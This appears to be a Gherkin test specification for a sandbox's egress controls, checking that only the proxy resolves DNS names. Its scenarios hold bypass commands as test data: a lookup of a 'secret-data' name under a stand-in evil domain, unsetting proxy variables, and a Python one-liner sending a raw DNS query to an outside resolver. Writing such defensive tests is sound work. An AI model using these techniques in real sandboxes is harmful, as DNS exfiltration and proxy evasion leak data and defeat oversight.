Feature: Who resolves names
  Names are the proxy's affair. A step needs none resolved, and can have none resolved: a look-up carries data out.

  @EGR-08
  Rule: The proxy resolves names; nothing inside can

    Background:
      Given a sandboxed step
      And the network is allowlist
      And the host "{nonce}.pub.test" is allowed

    Scenario Outline: a name is resolved outside for a request by <way>
      When the step runs the probe "connect --proxy <way> {nonce}.pub.test:80"
      Then the origin "pub" answers
      And "{nonce}.pub.test" is looked up at least once
      And planted, with an empty list, nothing arrives at "{nonce}.pub.test"

      Examples:
        | way     |
        | connect |
        | http    |

    Scenario Outline: a step cannot have <what> resolved
      When the step runs the shell command "<command> >/dev/null 2>&1; tools/probe env PATH"
      Then "<name>" is looked up never
      And bare, the same command looks "<name>" up

      Examples:
        | what                       | command                                                                                                             | name                    |
        | a listed name              | getent hosts {nonce}.pub.test                                                                                       | {nonce}.pub.test        |
        | another name               | getent ahosts secret-data.{nonce}.evil.test                                                                         | secret-data.{nonce}.evil.test |
        | a listed name, by itself   | tools/probe connect --proxy none {nonce}.pub.test:80                                                                | {nonce}.pub.test        |
        | a name, without the proxy  | env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy tools/probe connect --proxy none {nonce}.evil.test:80 | {nonce}.evil.test       |

    @program:python3
    Scenario: a step cannot have a name resolved by a question of its own
      When the step runs the shell command "python3 -c 'import socket, struct; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); name = b"".join(bytes([len(l)]) + l for l in b"own.{nonce}.pub.test".split(b".")) + b"\0"; s.sendto(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1), ("9.9.9.9", 53)); s.recv(512)' >/dev/null 2>&1; tools/probe env PATH"
      Then "own.{nonce}.pub.test" is looked up never
      And bare, the same command looks "own.{nonce}.pub.test" up

    # A resolver that does not know the step's answers, nor its patience
    Scenario Outline: a name that is answered with <what> is not reached
      Given the host "{nonce}.<script>.test" is allowed
      When the step runs the probe "connect --proxy connect --timeout 9000 {nonce}.<script>.test:80"
      Then no origin answers
      And "{nonce}.<script>.test" is looked up at least once
      And planted, with the entry "{nonce}.pub.test", the same to "{nonce}.pub.test:80" arrives

      Examples:
        | what                      | script    |
        | "there is no such name"   | nx        |
        | a failure of the server   | failed    |
        | bytes that are no message | garbled   |
        | records of another name   | misplaced |
